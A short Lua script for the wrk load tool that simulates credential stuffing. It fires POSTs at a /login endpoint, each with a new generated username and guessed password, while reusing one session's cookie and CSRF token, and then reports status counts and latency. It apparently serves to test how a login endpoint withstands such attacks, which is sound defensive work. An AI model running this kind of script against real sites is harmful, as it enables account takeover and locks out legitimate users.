-- Credential stuffing for wrk: every request a new username and password, with one
-- browser's CSRF cookie, token and sign-in request (what a scripted attacker reuses).
-- Env: COOKIE (Cookie header value), CSRF, REQUEST.
local cookie = os.getenv("COOKIE")
local csrf = os.getenv("CSRF")
local request_id = os.getenv("REQUEST")
local counter = 0
statuses = {}
local threads = {}

setup = function(thread)
  table.insert(threads, thread)
  thread:set("offset", #threads * 10000000)
end

wrk.method = "POST"
wrk.headers["Content-Type"] = "application/x-www-form-urlencoded"
wrk.headers["Cookie"] = cookie

request = function()
  counter = counter + 1
  local n = (offset or 0) + counter
  local body = "request=" .. request_id .. "&csrf_token=" .. csrf ..
    "&username=victim" .. n .. "&password=Spring2024-guess-" .. n
  return wrk.format(nil, "/login", nil, body)
end

response = function(status, headers, body)
  statuses[status] = (statuses[status] or 0) + 1
end

done = function(summary, latency, requests)
  local total = {}
  for _, thread in ipairs(threads) do
    local st = thread:get("statuses")
    for s, n in pairs(st) do
      total[s] = (total[s] or 0) + n
    end
  end
  local parts = {}
  for s, n in pairs(total) do
    table.insert(parts, string.format("\"%d\": %d", s, n))
  end
  io.write(string.format("STUFFING {\"requests\": %d, \"per_s\": %.0f, \"p50_ms\": %.1f, \"p99_ms\": %.1f, \"statuses\": {%s}}\n",
    summary.requests, summary.requests / (summary.duration / 1e6),
    latency:percentile(50) / 1000, latency:percentile(99) / 1000, table.concat(parts, ", ")))
end
